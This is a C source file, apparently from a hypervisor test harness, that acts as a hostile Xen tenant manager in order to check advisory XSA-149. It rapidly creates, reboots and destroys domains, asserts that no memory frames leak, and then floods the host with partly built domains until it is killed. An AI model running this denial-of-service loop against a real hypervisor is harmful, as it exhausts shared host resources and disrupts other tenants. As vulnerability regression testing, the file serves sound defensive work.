// SPDX-License-Identifier: BSD-2-Clause
// XSA-149 by a manager that means harm, through Debian's libxenctrl: in a tenant it makes, reboots
// and destroys domains as fast as it can, then fills its budget with half-built ones and goes on
// asking for more until it is killed.
#include <stdio.h>
#include <time.h>

#include "attack.h"

#define VCPUS 128u
#define PORTS 1023u
#define MIB 2u
#define REFUSALS 1000u // until it says how full it is

static uint64_t now_ms(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
}

// To the hypervisor a reboot is an end and a creation.
static void make_and_reboot(unsigned vcpus)
{
    for (int life = 0; life < 2; life++) {
        subject_destroy(life == 0 ? subject_with_memory(vcpus, PORTS, MIB)
                                  : subject_create(vcpus, PORTS));
    }
}

static void storm(uint64_t until)
{
    uint64_t before = available();
    unsigned long n = 0;

    while (now_ms() < until) {
        make_and_reboot(n % 3 == 2 ? 1 + (unsigned)(n % VCPUS) : VCPUS);
        n++;
        if (available() != before) {
            wrong("after %lu reboots %llu frames are free, %llu were", n,
                  (unsigned long long)available(), (unsigned long long)before);
        }
    }
    printf("made=%lu\n", 2 * n);
    fflush(stdout);
}

// Each refused creation is of another size, so what was half built has another shape.
static void fill(void)
{
    unsigned long kept = 0;
    unsigned long refused = 0;

    for (unsigned vcpus = VCPUS;; vcpus = vcpus > 1 ? vcpus / 2 : VCPUS) {
        while (subject_try(vcpus, PORTS) >= 0) {
            kept++;
        }
        if (++refused == REFUSALS) {
            printf("kept=%lu refused=%lu\n", kept, refused);
            fflush(stdout);
        }
    }
}

static int hostile(int argc, char **argv)
{
    (void)argc;
    storm(now_ms() + number(argv[0]));
    fill();
    return 0;
}

const struct command hostile_commands[] = {
    {"hostile", "MS", 1, hostile},
    {0},
};
